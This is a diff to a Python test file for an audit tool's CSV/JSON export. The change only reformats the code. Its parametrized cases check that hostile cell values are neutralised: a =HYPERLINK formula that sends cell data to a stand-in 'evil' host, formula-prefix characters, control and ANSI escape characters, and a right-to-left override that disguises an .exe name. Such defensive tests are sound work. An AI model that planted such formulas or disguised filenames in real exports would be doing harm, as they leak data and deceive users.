@@ -35,8 +35,21 @@ def exported(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("hostile")
     capture = hostile_copy(tmp)
     out = tmp / "csv"
-    run = CliRunner().invoke(main, ["audit", str(capture), "--csv", str(out), "--json", str(tmp / "r.json"),
-                                    "--records", "--exit-zero", "-q", "--no-color"])
+    run = CliRunner().invoke(
+        main,
+        [
+            "audit",
+            str(capture),
+            "--csv",
+            str(out),
+            "--json",
+            str(tmp / "r.json"),
+            "--records",
+            "--exit-zero",
+            "-q",
+            "--no-color",
+        ],
+    )
     assert run.exit_code == 0, run.output
     read = {}
     for table in tables.SCHEMAS:
@@ -77,13 +90,24 @@ def test_the_hostile_strings_are_there_as_text_a_reader_recognises(exported):
     assert CLIENT_ID in {p for f in doc["findings"] for p in [f["evidence"].get("client_id")]}
 
 
-@pytest.mark.parametrize("text, cell", [
-    ("orders-txn", "orders-txn"),
-    ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
-    ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tx", "'\\tx"), ("\rx", "'\\rx"), ("a\nb", "a\\nb"), ("\x1b[31m", "\\x1b[31m"),
-    ("x\u202egnp.exe", "x\\u202egnp.exe"), ("\x85", "\\x85"), ("", ""), ("ünïcode ok", "ünïcode ok"),
-])
+@pytest.mark.parametrize(
+    "text, cell",
+    [
+        ("orders-txn", "orders-txn"),
+        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\\tx"),
+        ("\rx", "'\\rx"),
+        ("a\nb", "a\\nb"),
+        ("\x1b[31m", "\\x1b[31m"),
+        ("x\u202egnp.exe", "x\\u202egnp.exe"),
+        ("\x85", "\\x85"),
+        ("", ""),
+        ("ünïcode ok", "ünïcode ok"),
+    ],
+)
 def test_the_rule(text, cell):
     assert neutral(text) == cell
     assert visible(text) == cell.removeprefix("'") or text[:1] in FORMULA_STARTS
